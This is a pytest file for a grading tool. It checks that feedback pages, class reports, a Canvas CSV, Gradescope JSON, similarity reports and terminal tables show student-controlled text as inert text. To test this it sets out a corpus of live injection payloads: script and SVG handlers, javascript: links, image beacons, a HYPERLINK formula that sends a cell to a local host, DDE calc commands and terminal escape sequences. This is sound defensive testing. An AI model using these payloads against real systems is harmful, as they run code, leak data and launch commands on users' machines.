"""No file the project writes for people renders a student's text as a link, image, script or formula.

One corpus of hostile strings is placed in every field a student controls (the roster name, the student
key that names their files, test messages quoting the kernel, findings naming their cells, evidence
outputs and labels, a written answer and its pasted image's name, similarity's answers, names and notes)
and pushed through every writer: feedback (Markdown and HTML), the class report, the Canvas CSV,
Gradescope's results.json, the similarity report (HTML and the terminal table) and `course written`'s
HTML pages. Each output is then read the way a person's tool reads it: Markdown rendered to HTML by two
real renderers (mistune with its autolink and math plugins, and markdown-it-py, both with raw HTML
allowed, as a viewer that trusts the file would), HTML parsed by the standard library's parser, CSV read
by the csv module under the spreadsheet's formula rule (LibreOffice itself reads the CSVs in
test_csv_safety.py). The printed PDF of a hostile notebook is checked in tests/handgrading/test_written.py.
"""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, unquote

import pytest

from assignments.escaping import one_line
from assignments.exports import canvas, feedback, gradescope, report
from assignments.results.model import Evidence, Finding, QuestionResult, SubmissionResult, TestResult

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=http://127.0.0.1:9/beacon.png>",
    "![beacon](http://127.0.0.1:9/beacon.png)",
    "[click](javascript:alert(1))",
    "<http://127.0.0.1:9/autolink>",
    "bare http://127.0.0.1:9/bare and www.example.org and someone@example.org",
    "<!-- hidden --> <style>body{display:none}</style>",
    '"><svg onload=alert(1)>',
    "$$\\LaTeX$$ and $x^2$",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"grades")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "```` ``` ` backtick runs",
    "a | b | c",
    "[ref]: http://127.0.0.1:9/ref",
    "# heading\n\n> quote\n- item\n1. item",
    "\x1b[2J\x07 bell \u202e reversed \u2066 isolate \u2028 separator",
]
LONG = "x" * 20_000
STUDENT = "mallory<img src=x onerror=alert(1)>$y$=1+1|x"  # a key that names files: no slash
NAME = "\n".join(PAYLOADS)
EVIDENCE_CELLS = [PAYLOADS[0], PAYLOADS[2], "a | b | c"]
SHORT = [p for p in PAYLOADS if "\n" not in p]  # each must still read as typed, on one line
# Characters that must not reach a person's screen: controls (tab and newline aside) and text direction.
INVISIBLE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
ACTIVE_TAGS = {"script", "iframe", "object", "embed", "link", "base", "form", "svg", "math", "frame", "video"}
IMAGE_DATA = "iVBORw0KGgo="


class Page(HTMLParser):
    """Every tag with its attributes, and the text a reader sees."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    @property
    def visible(self) -> str:
        return " ".join(" ".join(self.text).split())


def active(
    html: str, own_images: tuple[str, ...] = (), own_styles: int = 0, own_links: tuple[str, ...] = ()
) -> list[str]:
    """What in ``html`` would run, load, link or typeset: none may come from a student (``own_links``: the
    writer's own links between its pages)."""
    page = Page(html)
    found = []
    styles = 0
    for tag, attrs in page.tags:
        if tag in ACTIVE_TAGS:
            found.append(f"<{tag}>")
        styles += tag == "style"
        if tag == "a" and not (attrs.get("href") or "").startswith("#") and attrs.get("href") not in own_links:
            found.append(f"link to {attrs.get('href')!r}")
        if tag == "img" and not (attrs.get("src") in own_images or attrs.get("src", "").startswith("data:image/")):
            found.append(f"image from {attrs.get('src')!r}")
        if tag == "meta" and not (set(attrs) <= {"charset"} or attrs.get("http-equiv") == "Content-Security-Policy"):
            found.append(f"meta {attrs}")
        found += [f"{tag} {name}=" for name in attrs if name.startswith("on")]
        found += [f"{tag} {name}={value!r}" for name, value in attrs.items() if "javascript:" in (value or "")]
        if "math" in (attrs.get("class") or ""):
            found.append(f"formula <{tag} class={attrs['class']!r}>")
    if styles > own_styles:
        found.append(f"{styles - own_styles} <style> of a student's")
    return found


def rendered_markdown(text: str) -> list[tuple[str, str]]:
    """``text`` as HTML from two real renderers that pass raw HTML through and link what they can."""
    import mistune
    from markdown_it import MarkdownIt

    eager = mistune.create_markdown(escape=False, plugins=["url", "math", "table", "strikethrough", "footnotes"])
    commonmark = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return [("mistune", eager(text)), ("markdown-it-py", commonmark.render(text))]


def check_markdown(
    path: Path, must_show: list[str], headings: list[str], own_links: tuple[str, ...] = (), own_images=()
) -> None:
    """Nothing active, every text in ``must_show`` read as typed, and each of ``headings`` still a heading
    (no fence or table a student opened swallowed the rest of the file)."""
    text = path.read_text(encoding="utf-8")
    assert not INVISIBLE.search(text), f"{path.name}: a control or direction character reaches the file"
    for renderer, html in rendered_markdown(text):
        found = active(html, own_images=tuple(own_images), own_links=own_links)
        assert found == [], f"{path.name} rendered by {renderer}: {found}"
        lost = [heading for heading in headings if f"<h2>{heading}</h2>" not in html]
        assert not lost, f"{path.name} rendered by {renderer}: these are no longer headings: {lost}"
        shown = Page(html).visible
        unread = [p for p in must_show if " ".join(p.split()) not in shown]
        assert not unread, f"{path.name} rendered by {renderer} does not show these as typed: {unread}"


def check_html(path: Path, must_show: list[str]) -> None:
    text = path.read_text(encoding="utf-8")
    assert not INVISIBLE.search(text), f"{path.name}: a control or direction character reaches the page"
    assert active(text, own_styles=1) == [], f"{path.name}: {active(text, own_styles=1)}"
    assert "Content-Security-Policy" in text, f"{path.name}: the page has no content security policy"
    shown = Page(text).visible
    unread = [p for p in must_show if " ".join(p.split()) not in shown]
    assert not unread, f"{path.name} does not show these as typed: {unread}"


def hostile_record() -> SubmissionResult:
    """One record with the corpus in every field a student's notebook or name reaches."""
    tests = [
        TestResult(f"test_case_{k}", "attention_tests", 0.0, 1.0, "failed", payload)
        for k, payload in enumerate(PAYLOADS + [LONG])
    ]
    questions = [
        QuestionResult("attention_tests", "autograded", float(len(tests)), 0.0, tests),
        QuestionResult("attention_written", "manual", 3.0, None, []),
    ]
    findings = [Finding("unknown-grade-id", payload, "warning", payload) for payload in PAYLOADS]
    findings.append(Finding("shortcut", PAYLOADS[0], "warning", "attention_tests"))
    evidence = [
        Evidence(
            "attention_written",
            payload,
            "edited",
            note=payload,
            execution_count=3,
            outputs=[{"kind": "text", "text": NAME}, {"kind": "image", "png": IMAGE_DATA}],
        )
        for payload in EVIDENCE_CELLS
    ]
    result = SubmissionResult(STUDENT, "transformers", "standalone", questions=questions, findings=findings)
    result.evidence = evidence
    return SubmissionResult.from_dict(json.loads(result.to_json()))  # as every exporter reads it


@pytest.fixture(scope="module")
def record() -> SubmissionResult:
    return hostile_record()


ROSTER = {STUDENT: {"name": NAME, "user_id": "4242", "sis_user_id": PAYLOADS[9], "section": PAYLOADS[10]}}


def test_feedback_shows_every_payload_as_text(record, tmp_path):
    written = feedback.write_feedback([record], tmp_path, roster=ROSTER)
    markdown, page = sorted(written, key=lambda path: path.suffix, reverse=True)
    check_markdown(markdown, [one_line(p) for p in SHORT] + [one_line(NAME)], ["Notes from the grader"])
    check_html(page, [one_line(p) for p in SHORT] + [one_line(NAME)])


def test_the_class_report_shows_every_payload_as_text(record, tmp_path):
    report.write_report([record], tmp_path, "transformers")
    page = report.page_name(STUDENT)
    check_markdown(
        tmp_path / "summary.md",
        [one_line(STUDENT)],  # who used a shortcut
        ["Questions", "Findings", "Hidden tests by pass rate (lowest 15)"],
        own_links=("students/index.md",),
        own_images=("histograms.png", "questions.png"),
    )
    index = tmp_path / "students" / "index.md"
    check_markdown(index, [one_line(STUDENT)], [], own_links=(quote(page),))
    hrefs = [a.get("href") for tag, a in Page(rendered_markdown(index.read_text())[1][1]).tags if tag == "a"]
    assert [unquote(h) for h in hrefs] == [page] and (index.parent / page).is_file(), hrefs
    labels = [f"FLAGGED (edited) evidence cell {one_line(cell)}" for cell in EVIDENCE_CELLS]
    check_markdown(
        index.parent / page, [one_line(p) for p in SHORT] + [one_line(STUDENT), *labels], ["Scores", "Findings"]
    )


def test_csv_and_gradescope_fields_are_plain(record, tmp_path):
    opts = canvas.CanvasOptions(canvas.CanvasAssignment("Homework 1", "4821"), per_question=True)
    path = canvas.write_canvas_csv([record], tmp_path / "canvas.csv", opts, ROSTER)
    with open(path, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    number = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.match(cell)]
    assert not formulas, f"cells a spreadsheet would evaluate: {formulas}"
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), "the hostile SIS id should be in the CSV, as text"
    assert not any(INVISIBLE.search(cell.replace("\r", "")) for cell in cells)

    data = gradescope.results_json(record, visibility="visible")
    formats = {data[key] for key in ("output_format", "test_output_format", "test_name_format")}
    assert formats == {"text"}, "Gradescope must render every name and output as plain text"
    strings = [data["output"]] + [value for test in data["tests"] for value in (test["name"], test["output"])]
    assert not [s for s in strings if INVISIBLE.search(s)], "a control or direction character reaches Gradescope"
    assert "<script>alert(1)</script>" in json.dumps(data["tests"]), "messages should reach Gradescope as typed"


def test_the_similarity_report_shows_every_payload_as_text(tmp_path):
    from assignments.similarity import report as similarity_report
    from assignments.similarity.compare import Comparison, Pair, QuestionMatch, Student

    code = "\n".join(f"x = {payload!r}" for payload in PAYLOADS)
    students = [
        Student(STUDENT, NAME, {"q": code}, notes=PAYLOADS),
        Student("other", PAYLOADS[1], {"q": code}),
        Student("broken", PAYLOADS[0], problem=NAME),
    ]
    pair = Pair(STUDENT, "other", 1.0, 10, [QuestionMatch("q", 1.0, 1.0, 10, [1, 2], [1, 2])])
    comparison = Comparison("transformers", ("q",), students, [pair])
    page, _ = similarity_report.write_report(comparison, tmp_path)
    check_html(page, [one_line(p) for p in SHORT[:8]])
    assert not INVISIBLE.search(similarity_report.table(comparison)), "the terminal must get no escape sequence"


def test_course_written_pages_show_every_payload_as_text(tmp_path):
    from assignments.handgrading.written import WrittenAnswer, write_class

    pasted = 'a"onerror=alert(1).png'  # an attachment's name is the student's too
    answer = f"{NAME}\n\n![pasted](attachment:{pasted})\n\n{LONG}"
    evidence = [Evidence("q", PAYLOADS[0], "edited", note=PAYLOADS[1], outputs=[{"kind": "text", "text": NAME}])]
    mine = [WrittenAnswer("q", "Explain.", 2.0, answer, {pasted: ("image/png", IMAGE_DATA)}, evidence)]
    write_class("transformers", {STUDENT: mine, "other": mine}, tmp_path, pdf=False)
    shown = ["<script>alert(1)</script>", "javascript:alert(1)", "http://127.0.0.1:9/beacon.png", "$$\\LaTeX$$"]
    for path in [tmp_path / "students" / f"{STUDENT}.html", tmp_path / "questions" / "q.html"]:
        check_html(path, shown)
        assert 'src="data:image/png;base64,' + IMAGE_DATA in path.read_text(), "the pasted image should be shown"


def test_the_checks_flag_the_corpus_when_nothing_escapes_it():
    """The control: the corpus written raw, which the checks above must flag, so checks that see nothing
    cannot make those tests pass."""
    expected = {"mistune": ("<script>", "link to", "image from", "formula"), "markdown-it-py": ("<script>", "link to")}
    for renderer, html in rendered_markdown("\n\n".join(PAYLOADS)):  # paragraphs: no HTML block swallows the rest
        found = " ".join(active(html))
        missed = [kind for kind in expected[renderer] if kind not in found]
        assert not missed, f"{renderer} rendered the raw corpus and the check missed: {missed}"
    raw_page = "<html><body>" + NAME + '<a href="https://127.0.0.1:9/">x</a></body></html>'
    assert {"<script>", "<svg>", "link to", "image from"} <= {part.split(" '")[0] for part in active(raw_page)}
    assert INVISIBLE.search(NAME)


def test_the_terminal_score_table_carries_no_escape_sequence():
    from assignments.results.table import score_table

    record = hostile_record()
    record.student = "\x1b]0;owned\x07\x1b[2J" + STUDENT  # retitles and clears the instructor's terminal
    table = score_table([record], "scores")
    assert not INVISIBLE.search(table) and "?]0;owned??[2J" + STUDENT in table
